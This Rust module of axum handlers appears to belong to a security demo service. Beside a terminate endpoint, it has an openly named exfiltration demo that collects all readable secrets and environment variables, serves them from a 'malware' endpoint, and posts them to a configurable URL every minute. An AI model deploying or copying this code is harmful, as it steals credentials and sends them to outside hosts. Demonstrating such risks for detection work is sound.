//! Admin-only actions: terminate and the exfiltration demo

use crate::state::{env_vars, ProcessState, SharedState};
use axum::{
    extract::{ConnectInfo, State},
    Json,
};
use serde::Serialize;
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::task::JoinHandle;
use tracing::{info, warn};

/// Pause between two exfiltration posts
pub const EXFIL_INTERVAL: Duration = Duration::from_secs(60);

/// Stop being ready and schedule the exit; always answers OK
pub async fn terminate_handler(
    State(state): State<SharedState>,
    ConnectInfo(remote): ConnectInfo<SocketAddr>,
) -> &'static str {
    info!(remote = %remote, "Terminate requested");
    if !state.terminate() {
        info!("Terminate already scheduled");
    }
    "OK"
}

/// Secrets visible to the service account plus the process environment
#[derive(Debug, Default, Serialize)]
pub struct ExfilPayload {
    /// `namespace/name` to the secret as JSON
    #[serde(rename = "Secret")]
    pub secret: BTreeMap<String, String>,
    #[serde(rename = "Env")]
    pub env: BTreeMap<String, String>,
}

pub async fn collect_exfil(state: &ProcessState) -> ExfilPayload {
    let secret = match state.resources.secrets().await {
        Ok(secret) => secret,
        Err(e) => {
            warn!(error = %e, "Unable to list secrets");
            BTreeMap::new()
        }
    };

    ExfilPayload {
        secret,
        env: env_vars().collect(),
    }
}

pub async fn malware_handler(State(state): State<SharedState>) -> Json<ExfilPayload> {
    Json(collect_exfil(&state).await)
}

/// Post the payload to `url` every [`EXFIL_INTERVAL`] until the process exits
pub fn spawn_exfil_poster(state: SharedState, url: String) -> JoinHandle<()> {
    tokio::spawn(async move {
        let client = reqwest::Client::new();
        loop {
            let payload = collect_exfil(&state).await;
            match client.post(&url).json(&payload).send().await {
                Ok(resp) => info!(url = %url, status = resp.status().as_u16(), "Posted secrets"),
                Err(e) => warn!(url = %url, error = %e, "Unable to post secrets"),
            }
            tokio::time::sleep(EXFIL_INTERVAL).await;
        }
    })
}
